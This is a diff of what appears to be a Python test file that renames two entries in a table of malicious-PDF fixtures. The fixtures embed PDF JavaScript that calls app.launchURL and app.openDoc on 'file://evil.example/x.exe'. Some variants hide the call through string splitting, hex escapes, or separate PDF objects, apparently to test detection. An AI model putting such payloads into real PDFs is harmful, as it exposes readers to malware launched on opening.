@@ -163,11 +163,11 @@ SCRIPTS = {
     "after a short string": scripted(b'f("a", 1234, 12345, "file://evil.example/x.exe"); app.openDoc(x)'),
     "in pieces": scripted(b'app["launch"+"URL"]("file://ev"+"il.example/x.exe")'),
     "escaped": scripted(b'app.launchURL("\\x66ile://evil.example/x.exe")'),
-    "a script of its own": document(
+    "a script in another object": document(
         b"<</S/JavaScript/JS 2 0 R>>",
         b'2 0 obj<</Length 50>>stream\napp.launchURL("file://evil.example/x.exe");\nendstream endobj\n',
     ),
-    "a string of its own": document(
+    "a string in another object": document(
         b"<</S/JavaScript/JS 2 0 R>>", b'2 0 obj (app.launchURL\\("file://evil.example/x.exe"\\)) endobj\n'
     ),
     "a form": document(
